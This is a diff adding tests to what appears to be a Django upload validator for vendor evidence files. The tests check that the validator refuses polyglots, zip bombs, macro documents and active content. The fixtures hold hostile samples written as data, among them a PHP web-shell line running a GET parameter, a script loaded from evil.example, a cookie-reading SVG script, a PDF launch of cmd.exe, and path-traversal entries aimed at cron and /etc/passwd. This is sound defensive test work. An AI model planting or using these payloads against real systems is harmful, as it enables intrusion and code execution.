@@ -2,14 +2,22 @@
 
 import hashlib
 import io
+import re
 import zipfile
+import zlib
 
 import pytest
 from django.core.exceptions import ValidationError
 from hypothesis import assume, given
 from hypothesis import strategies as st
 
-from vendors.filetypes import ALLOWED_EXTENSIONS, CONTENT_TYPES, check_evidence_file
+from vendors.filetypes import (
+    ALLOWED_EXTENSIONS,
+    CONTENT_TYPES,
+    ArchiveLimits,
+    check_evidence_file,
+    sniff_mime,
+)
 
 CHUNK = 64 * 1024
 MB = 1024 * 1024
@@ -22,7 +30,20 @@ EXECUTABLE = (
 ALLOWED_LIST = "pdf, png, jpg, jpeg, txt, csv, md, docx, xlsx"
 
 PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
-PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00"
+
+
+def png_chunk(kind: bytes, body: bytes) -> bytes:
+    """One PNG chunk: length, type, body and CRC."""
+    return len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")
+
+
+# A complete 1x1 RGB image, IEND included (the check refuses bytes after it).
+PNG = (
+    b"\x89PNG\r\n\x1a\n"
+    + png_chunk(b"IHDR", b"\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00")
+    + png_chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
+    + png_chunk(b"IEND", b"")
+)
 JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
 WINDOWS_EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64 + b"PE\x00\x00"
 ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
@@ -279,3 +300,267 @@ def test_it_accepts_any_utf8_text_without_nul_as_txt_even_across_chunks(text, of
     padding = b"x" * max(0, CHUNK - offset - len(encoded))
     data = encoded + padding + encoded
     assert check("notes.txt", data) == ("text", len(data), hashlib.sha256(data).hexdigest())
+
+
+# --- content sniffed by libmagic, active content, polyglots, Office archives ----------------
+
+DOCX_TYPES = (
+    '<?xml version="1.0" encoding="UTF-8"?>'
+    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+    '<Default Extension="xml" ContentType="application/xml"/>'
+    '<Override PartName="/word/document.xml" ContentType="application/'
+    'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
+)
+DOCM_TYPES = DOCX_TYPES.replace(
+    "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
+    "vnd.ms-word.document.macroEnabled.main+xml",
+)
+WORD_BODY = (
+    '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
+    'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>SOC 2 bridge letter</w:t></w:r></w:p>'
+    "</w:body></w:document>"
+)
+
+
+def word(*extra: tuple[str, bytes], types: str = DOCX_TYPES, stored: bool = False) -> bytes:
+    """A Word document as Word writes one ([Content_Types].xml first), plus ``extra`` parts."""
+    buffer = io.BytesIO()
+    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
+    with zipfile.ZipFile(buffer, "w", method) as archive:
+        archive.writestr("[Content_Types].xml", types)
+        archive.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships/>')
+        archive.writestr("word/document.xml", WORD_BODY)
+        for name, data in extra:
+            archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+def workbook() -> bytes:
+    """A real workbook, as openpyxl writes it."""
+    from openpyxl import Workbook
+
+    book = Workbook()
+    book.active.append(["vendor", "seats"])
+    book.active.append(["Acme", 42])
+    buffer = io.BytesIO()
+    book.save(buffer)
+    return buffer.getvalue()
+
+
+def code(name: str, data: bytes, **kwargs) -> str:
+    """The refusal's code."""
+    return refusal(name, data, **kwargs).error_dict["file"][0].code
+
+
+HTML = b"<!DOCTYPE html><html><body><script>fetch('/api/v1/me/')</script></body></html>\n"
+SVG = (
+    b'<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1">'
+    b"<script>alert(document.cookie)</script></svg>\n"
+)
+
+
+def test_it_accepts_a_real_workbook_and_a_word_document_with_an_image():
+    assert check("budget.xlsx", workbook())[0] == "xlsx"
+    assert check("policy.docx", word(("word/media/image1.png", PNG)))[0] == "docx"
+
+
+def test_it_refuses_html_renamed_pdf_naming_it():
+    assert file_messages(refusal("report.pdf", HTML)) == [
+        "The file is named .pdf but its content is HTML, "
+        "active content that is never accepted as evidence."
+    ]
+
+
+@pytest.mark.parametrize("name", ["notes.txt", "notes.md", "export.csv"])
+def test_it_refuses_html_named_as_text(name):
+    assert code(name, HTML) == "active_content"
+
+
+@pytest.mark.parametrize("name", ["logo.png", "logo.txt"])
+def test_it_refuses_an_svg_with_script(name):
+    assert file_messages(refusal(name, SVG))[0].startswith(
+        f"The file is named .{name.rsplit('.')[-1]} but its content is an SVG image"
+    )
+
+
+def test_it_refuses_script_deep_inside_a_text_file():
+    data = b"notes\n" * 50_000 + b"<script src=//evil.example/x.js></script>\n"
+    assert file_messages(refusal("notes.txt", data)) == [
+        "The file is UTF-8 text but also holds a script (<script>), active content "
+        "that is never accepted as evidence."
+    ]
+
+
+@pytest.mark.parametrize(
+    ("name", "data", "words"),
+    [
+        ("photo.png", PNG + b"<html><script>x</script></html>", "HTML (<html>)"),
+        ("photo.jpg", JPEG + b"<?php system($_GET['c']); ?>", "PHP code (<?php)"),
+        ("photo.jpg", JPEG[:20] + b"<?PHP echo 1; ?>" + JPEG[20:], "PHP code (<?php)"),
+        ("scan.pdf", PDF + b"<html><body>x</body></html>", "HTML (<html>)"),
+        (
+            "scan.pdf",
+            PDF.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript >>"),
+            "PDF JavaScript (/JavaScript)",
+        ),
+        ("scan.pdf", PDF + b"<< /S /Launch /F (cmd.exe) >>", "a PDF launch action (/Launch)"),
+    ],
+    ids=["png+html", "jpeg+php", "jpeg-php-inside", "pdf+html", "pdf-javascript", "pdf-launch"],
+)
+def test_it_refuses_active_content_behind_a_genuine_header(name, data, words):
+    (message,) = file_messages(refusal(name, data))
+    assert f"but also holds {words}" in message
+
+
+def test_it_refuses_a_pdf_zip_polyglot():
+    appended = PDF + ooxml("payload.html")
+    assert file_messages(refusal("contract.pdf", appended)) == [
+        "The file is a PDF document but also holds a ZIP archive: "
+        "a file that is two formats at once is not accepted."
+    ]
+
+
+def test_it_refuses_a_zip_entry_hidden_inside_a_pdf():
+    # Only the local header, no central directory: a ZIP reader would not open it, a carver would.
+    zipped = ooxml("payload.txt")
+    local_header_only = zipped[: zipped.index(b"PK\x01\x02")]
+    inside = PDF.replace(b"endobj", b"endobj\n" + local_header_only, 1)
+    assert code("contract.pdf", inside) == "polyglot"
+
+
+def test_it_refuses_a_png_with_an_appended_zip():
+    (message,) = file_messages(refusal("chart.png", PNG + ooxml("x.txt")))
+    assert message.startswith("The file is a PNG image but also holds a ZIP archive")
+
+
+def test_it_refuses_a_pdf_inside_a_png():
+    assert code("chart.png", PNG[:33] + PDF + PNG[33:]) == "polyglot"
+
+
+def test_it_refuses_bytes_after_the_end_of_an_image():
+    assert file_messages(refusal("chart.png", PNG + b"\x01\x02\x03")) == [
+        "The file is a PNG image but has 3 bytes after the image ends; "
+        "data appended to an image is not accepted."
+    ]
+    assert code("photo.jpg", JPEG + b"trailing payload") == "polyglot"
+
+
+def test_it_accepts_padding_after_the_end_of_a_jpeg():
+    assert check("photo.jpg", JPEG + b"\x00" * 16 + b"\r\n")[0] == "jpeg"
+
+
+def test_it_refuses_a_png_cut_short():
+    assert code("chart.png", PNG[:-12]) == "polyglot"
+
+
+def test_it_refuses_a_small_zip_bomb_by_its_ratio():
+    bomb = word(("customXml/item1.xml", b"\x00" * (50 * MB)))
+    assert len(bomb) < 100 * 1024
+    (message,) = file_messages(refusal("policy.docx", bomb))
+    assert re.fullmatch(
+        r"The file is a Word document that expands [\d,]+ times \([\d,]+ bytes to 52,4\d\d,\d+\);"
+        r" the limit is 100 times\.",
+        message,
+    ), message
+
+
+def test_it_refuses_the_issues_200_kb_docx_that_expands_to_200_mb_at_the_default_limits():
+    buffer = io.BytesIO(word())
+    # Streamed in 1 MB writes, so the test never holds 200 MB.
+    with (
+        zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive,
+        archive.open("customXml/item1.xml", "w", force_zip64=True) as part,
+    ):
+        for _ in range(200):
+            part.write(b" " * MB)
+    assert len(buffer.getvalue()) < 250 * 1024
+    assert code("policy.docx", buffer.getvalue()) == "archive_too_large"
+
+
+def test_it_refuses_an_office_file_that_expands_past_the_size_limit():
+    data = word(("customXml/item1.xml", bytes(range(256)) * 8 * 1024))
+    limits = ArchiveLimits(max_expanded_bytes=MB, max_ratio=10_000)
+    with pytest.raises(ValidationError) as error:
+        check_evidence_file(
+            name="policy.docx", fileobj=io.BytesIO(data), max_bytes=LIMIT, archive_limits=limits
+        )
+    assert error.value.message_dict["file"] == [
+        "The file is a Word document that expands to 2.0 MB; the limit is 1.0 MB."
+    ]
+
+
+def test_it_refuses_an_office_file_of_too_many_entries():
+    data = word(*[(f"customXml/item{n}.xml", b"<x/>") for n in range(10)])
+    with pytest.raises(ValidationError) as error:
+        check_evidence_file(
+            name="policy.docx",
+            fileobj=io.BytesIO(data),
+            max_bytes=LIMIT,
+            archive_limits=ArchiveLimits(max_entries=12),
+        )
+    assert error.value.message_dict["file"] == [
+        "The file is a Word document of 13 entries; the limit is 12."
+    ]
+
+
+def test_the_default_archive_limits_come_from_settings(settings):
+    settings.TOLLGATE_EVIDENCE_ARCHIVE_MAX_RATIO = 2
+    assert code("policy.docx", word(("customXml/item1.xml", b" " * 100_000))) == "archive_ratio"
+
+
+def test_it_refuses_a_docm_renamed_docx_by_its_macro_project():
+    docm = word(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro"), types=DOCM_TYPES)
+    assert file_messages(refusal("policy.docx", docm)) == [
+        "The file is a Word document with macros (word/vbaProject.bin); "
+        "macro-enabled documents are never accepted as evidence."
+    ]
+
+
+def test_it_refuses_a_macro_enabled_content_type_without_the_project():
+    (message,) = file_messages(refusal("policy.docx", word(types=DOCM_TYPES)))
+    assert "with macros (content type macroenabled)" in message
+
+
+def test_it_refuses_an_xlsm_renamed_xlsx():
+    buffer = io.BytesIO(workbook())
+    with zipfile.ZipFile(buffer, "a") as archive:
+        archive.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0macro")
+    assert code("budget.xlsx", buffer.getvalue()) == "macro"
+
+
+@pytest.mark.parametrize(
+    "entry", ["../../etc/cron.d/evil", "/etc/passwd", "word/../../x.xml", "C:\\evil.xml"]
+)
+def test_it_refuses_office_entries_with_a_path_outside_the_document(entry):
+    (message,) = file_messages(refusal("policy.docx", word((entry, b"<x/>"))))
+    assert message == (
+        f"The file is a Word document with an entry at {entry!r}, a path outside the document "
+        "(absolute or with '..')."
+    )
+
+
+@pytest.mark.parametrize(
+    ("part", "data"),
+    [
+        ("word/afchunk.html", b"<p>chunk</p>"),
+        ("word/activeX/activeX1.xml", b"<ax/>"),
+        ("word/_rels/document.xml.rels", b'<Relationship Target="javascript:alert(1)"/>'),
+        ("customXml/item1.xml", b"<x><![CDATA[<script>alert(1)</script>]]></x>"),
+    ],
+    ids=["html-part", "activex", "javascript-link", "script-in-xml"],
+)
+def test_it_refuses_active_parts_inside_an_office_file(part, data):
+    assert code("policy.docx", word((part, data))) == "active_content"
+
+
+def test_it_finds_script_in_a_stored_office_part_too():
+    assert code("policy.docx", word(("customXml/a.xml", b"<script>x</script>"), stored=True)) == (
+        "active_content"
+    )
+
+
+def test_it_sniffs_with_libmagic():
+    assert sniff_mime(PDF) == "application/pdf"
+    assert sniff_mime(DOCX) == CONTENT_TYPES["docx"]
+    assert sniff_mime(HTML) == "text/html"
+    assert sniff_mime(SVG) == "image/svg+xml"
